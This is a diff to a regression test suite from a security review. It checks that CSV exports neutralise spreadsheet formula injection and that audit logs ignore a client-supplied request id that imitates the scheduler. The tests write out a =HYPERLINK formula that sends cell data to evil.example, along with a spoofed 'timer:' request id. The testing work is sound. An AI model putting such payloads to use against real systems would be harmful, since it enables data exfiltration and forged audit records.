@@ -116,7 +116,6 @@ describe('security review (2026-12): regressions', () => {
       const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")';
       await t.http
         .post(`/api/v1/public/notices/${app.id}/objections`)
-        .set('X-Request-Id', '-1-1')
         .send({ name: 'Zhang San', contact: '138', reason: formula })
         .expect(202);
       const csv = await t.http
@@ -126,7 +125,30 @@ describe('security review (2026-12): regressions', () => {
       const line = csv.text.split('\n').find((l) => l.includes('objection.file'))!;
       expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click for details"")"`);
       expect(line).not.toMatch(/,"?=HYPERLINK/);
-      expect(line).toContain(",'-1-1,");
+    });
+  });
+
+  describe('L7: the audit log records the server’s request id, not the client’s', () => {
+    it('keeps a client id that imitates the scheduler out of the audit log', async () => {
+      const e = await registerEnterprise(t.http);
+      const spoofed = 'timer:01a234c6-89b9-77f6-a281-129bb0549c80';
+      const res = await t.http
+        .post('/api/v1/applications')
+        .set(e.auth)
+        .set('X-Request-Id', spoofed)
+        .send({ enterpriseId: e.enterpriseId, tier: 'innovative_sme', facts: passingFacts(2026) })
+        .expect(201);
+      expect(res.headers['x-request-id']).toBe(spoofed);
+      const serverId = res.headers['x-server-request-id'] as string;
+      expect(serverId).toMatch(/^[0-9a-f-]{36}$/);
+      const history = await t.http
+        .get(`/api/v1/applications/${res.body.id}/history`)
+        .set(e.auth)
+        .expect(200);
+      expect(history.body.items[0]).toMatchObject({
+        event: 'application.create',
+        requestId: serverId,
+      });
     });
   });
 
